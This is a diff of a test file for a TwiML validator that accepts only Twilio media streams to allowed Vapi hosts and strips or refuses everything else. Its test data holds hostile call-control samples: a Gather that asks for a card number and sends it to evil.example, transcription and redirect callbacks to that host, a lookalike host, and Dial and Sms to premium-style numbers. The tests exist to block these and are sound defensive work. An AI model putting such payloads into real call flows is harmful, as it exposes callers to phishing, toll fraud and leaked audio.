@@ -10,9 +10,8 @@ describe('classifyTwiml', () => {
     connect(stream('wss://vapi.ai/x')),
     connect(stream('wss://a.b.vapi.ai:443/x', '<Parameter name="a" value="b"/>')),
     connect(stream('wss://localhost:4011/x')),
-    `<Response><Start>${stream('wss://api.vapi.ai/1')}</Start><Connect>${stream('wss://api.vapi.ai/2')}</Connect><Say>Bye</Say></Response>`,
   ])('accepts %s', (xml) => {
-    expect(classifyTwiml(xml, HOSTS).document?.name).toBe('Response');
+    expect(classifyTwiml(xml, HOSTS).reduced?.dropped).toEqual([]);
   });
 
   it.each<[string, string, RegExp]>([
@@ -20,9 +19,9 @@ describe('classifyTwiml', () => {
     ['another root', '<Foo/>', /root element/],
     ['no stream', '<Response><Say>Hi</Say></Response>', /0 streams/],
     [
-      'a one-way stream only',
+      'a one-way stream',
       `<Response><Start>${stream('wss://a.vapi.ai/x')}</Start></Response>`,
-      /0 streams/,
+      /^Start under Response$/,
     ],
     ['two streams', connect(stream('wss://a.vapi.ai/x').repeat(2)), /2 streams/],
     ['no address', connect('<Stream/>'), /no address/],
@@ -38,11 +37,6 @@ describe('classifyTwiml', () => {
     [
       'a host that ends otherwise',
       connect(stream('wss://vapi.ai.evil.example/x')),
-      /VAPI_STREAM_HOSTS/,
-    ],
-    [
-      'a foreign host beside a good one',
-      `<Response><Start>${stream('wss://evil.example/1')}</Start><Connect>${stream('wss://a.vapi.ai/2')}</Connect></Response>`,
       /VAPI_STREAM_HOSTS/,
     ],
     ...[
@@ -62,12 +56,12 @@ describe('classifyTwiml', () => {
     [
       'Connect inside another verb',
       `<Response><Say>${'<Connect><Stream url="wss://a.vapi.ai/x"/></Connect>'}</Say></Response>`,
-      /directly under Response/,
+      /^Say under Response$/,
     ],
     ...['Hangup', 'Reject', 'Redirect'].map((verb): [string, string, RegExp] => [
       `${verb} before Connect`,
       `<Response><${verb}/><Connect>${stream('wss://a.vapi.ai/x')}</Connect></Response>`,
-      /ends the document/,
+      /under Response$/,
     ]),
     [
       'a long parameter',
@@ -76,6 +70,76 @@ describe('classifyTwiml', () => {
     ],
   ])('refuses %s', (_case, xml, defect) => {
     expect(classifyTwiml(xml, HOSTS).defect).toMatch(defect);
+  });
+
+  const CONNECT = connect(stream('wss://a.vapi.ai/x')).replace(/<\/?Response>/g, '');
+
+  it.each([
+    ['dials', '<Dial>+19005550100</Dial>'],
+    ['sends', '<Sms to="+19005550100">Hi</Sms>'],
+    ['records', '<Record/>'],
+    ['takes payment', '<Pay/>'],
+    ['redirects', '<Redirect>https://evil.example</Redirect>'],
+    ['gathers', '<Gather action="https://evil.example"><Say>Your card number?</Say></Gather>'],
+    ['transcribes', '<Start><Transcription statusCallbackUrl="https://evil.example"/></Start>'],
+    ['dials in small letters', '<dial>+19005550100</dial>'],
+    ['dials inside of words', '<Say>Hi<Dial>+19005550100</Dial></Say>'],
+    ['plays', '<Play>https://evil.example/a.mp3</Play>'],
+    ['has a second Connect', CONNECT],
+    ['has a verb of an inherited name', '<constructor/>'],
+  ])('refuses a document that %s (T3)', (_what, verb) => {
+    const before = classifyTwiml(`<Response>${verb}${CONNECT}</Response>`, HOSTS);
+    const after = classifyTwiml(`<Response>${CONNECT}${verb}</Response>`, HOSTS);
+
+    expect([before.reduced, after.reduced]).toEqual([undefined, undefined]);
+  });
+
+  it.each([
+    '<ConversationRelay url="wss://evil.example"/>',
+    `${stream('wss://a.vapi.ai/x')}<ConversationRelay url="wss://evil.example"/>`,
+    stream('wss://a.vapi.ai/x', '<Start/>'),
+    stream('wss://a.vapi.ai/x', '<Parameter name="a" value="b"><Dial/></Parameter>'),
+  ])('refuses what it does not know inside of Connect: %s (T3)', (inside) => {
+    expect(classifyTwiml(connect(inside), HOSTS).defect).toMatch(/ under /);
+  });
+
+  it('leaves out words, pauses, comments, attributes and addresses that are not ours (T3)', () => {
+    const xml =
+      '<Response a="1"><!-- c --><Say>Hi</Say><Pause/>text<Connect action="https://evil.example/a">' +
+      '<Stream url="wss://a.vapi.ai/x" statusCallback="https://evil.example/s" name="n">' +
+      '<Parameter name="a" value="b" to="c"/></Stream></Connect><Hangup/></Response>';
+
+    expect(classifyTwiml(xml, HOSTS).reduced).toEqual({
+      stream: {
+        url: 'wss://a.vapi.ai/x',
+        name: 'n',
+        parameters: [{ name: 'a', value: 'b' }],
+      },
+      next: undefined,
+      dropped: [
+        'a comment',
+        'an attribute of Response',
+        'text under Response',
+        'Say',
+        'Pause',
+        'an attribute of Stream',
+        'an attribute of Parameter',
+        'Hangup',
+        'an action at another host',
+      ],
+    });
+  });
+
+  it.each([
+    ['https://api.vapi.ai/next?call=1', 'get', 'GET'],
+    ['https://api.vapi.ai/next', 'POST', 'POST'],
+  ])('keeps an action of %s for after the stream (T3)', (url, method, expected) => {
+    const xml = CONNECT.replace('<Connect>', `<Connect action="${url}" method="${method}">`);
+
+    expect(classifyTwiml(`<Response>${xml}</Response>`, HOSTS).reduced).toMatchObject({
+      next: { url, method: expected },
+      dropped: [],
+    });
   });
 
   it('never quotes the address or the document', () => {
